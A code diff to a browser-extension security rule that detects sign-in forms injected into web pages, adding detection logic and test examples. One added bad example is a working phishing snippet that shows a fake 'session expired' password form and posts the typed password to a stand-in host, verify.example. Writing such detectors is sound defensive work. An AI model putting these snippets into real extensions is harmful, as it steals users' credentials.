@@ -2,9 +2,13 @@ import {
   callsNamed,
   callsOf,
   constant,
+  Op,
   pattern,
+  posOf,
+  propertyOf,
   readsNamed,
   receiverOf,
+  valuesOf,
   writesOf,
   apiPath,
   type ScriptFacts,
@@ -13,7 +17,8 @@ import { flowsOf } from '../../extension/flowsOf.ts';
 import type { Facts } from '../../facts.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
-import { mentions } from './textsOf.ts';
+import { mentions, textsOf } from './textsOf.ts';
+import { functionAt } from '../../program/functionAt.ts';
 import { runsInPages } from './places.ts';
 import { leavesBy, sendingsOf } from './sendings.ts';
 import { first } from '../../facts/first.ts';
@@ -41,7 +46,11 @@ export const signInFormInPage = defineRule({
   why: 'Users see the site’s address above the form and take it for the site’s own. What they enter goes to whoever wrote the extension.',
   remedy: 'Ask for passwords only in the extension’s own pages, or use the browser’s sign-in API.',
   check: checkScripts(function* ({ script, file, facts, hit }) {
-    if (!runsInPages(facts, file.path) || !mentions(script, PASSWORD)) return;
+    if (!runsInPages(facts, file.path) || !mentions(script, /password/)) return;
+    const made = mentions(script, PRESSING) ? madeField(script) : 0;
+    if (made !== 0 && (sendsTyped(facts, script) || sendsWhatIsTyped(script)))
+      yield hit(made, { severity: 'high', confidence: 'high', message: say('claims-sign-in-sends') });
+    if (!mentions(script, PASSWORD)) return;
     for (const { value, replaces } of first([...markups(script)], 200)) {
       const text = pattern(script, value);
       if (!PASSWORD.test(text)) continue;
@@ -78,6 +87,9 @@ export const signInFormInPage = defineRule({
   examples: {
     bad: [
       contentExample(
+        'const f = document.createElement("form"); const t = document.createElement("h2"); t.textContent = "Your session has expired"; const p = document.createElement("input"); p.type = "password"; f.append(t, p); document.body.append(f); f.onsubmit = () => fetch("https://verify.example/a", { method: "POST", body: p.value });',
+      ),
+      contentExample(
         'document.addEventListener("visibilitychange", () => { document.body.innerHTML = \'<h1>Sign in again</h1><form id="f"><input name="email" type="email"><input name="pw" type="password"><button>Next</button></form>\'; });',
       ),
       contentExample(
@@ -98,6 +110,9 @@ export const signInFormInPage = defineRule({
     ],
     good: [
       contentExample(
+        'const Panel = () => h("form", { onSubmit: (e) => fetch("https://api.example.com/in", { method: "POST", body: new FormData(e.target) }) }, h("h2", null, "Sign in to Clipper"), h("input", { type: "password" })); const note = () => toast("Your session has expired"); render(h(Panel), box);',
+      ),
+      contentExample(
         'panel.innerHTML = \'<label>API key <input type="password" id="key"></label>\'; panel.onchange = () => chrome.storage.local.set({ key: panel.querySelector("#key").value });',
       ),
       contentExample('document.querySelectorAll(\'input[type="password"]\').forEach((f) => { f.type = "text"; });'),
@@ -113,6 +128,24 @@ export const signInFormInPage = defineRule({
     ],
   },
 });
+
+/** A password field that code makes, `h('input', { type: 'password' })`, by a function that says one must sign in again. */
+function madeField(script: ScriptFacts): number {
+  const pressing = new Set(
+    textsOf(script)
+      .filter(({ text }) => PRESSING.test(text))
+      .map(({ value }) => functionAt(script, posOf(script, value))),
+  );
+  const fields = [
+    ...[...valuesOf(script, Op.object, Op.element)].map((value) => propertyOf(script, value, 'type')),
+    ...writesOf(script, 'type').map(({ value }) => value),
+  ];
+  return (
+    fields.find(
+      (value) => constant(script, value) === 'password' && pressing.has(functionAt(script, posOf(script, value))),
+    ) ?? 0
+  );
+}
 
 /** Whether the content of any field leaves the script. */
 function sendsWhatIsTyped(script: ScriptFacts): boolean {
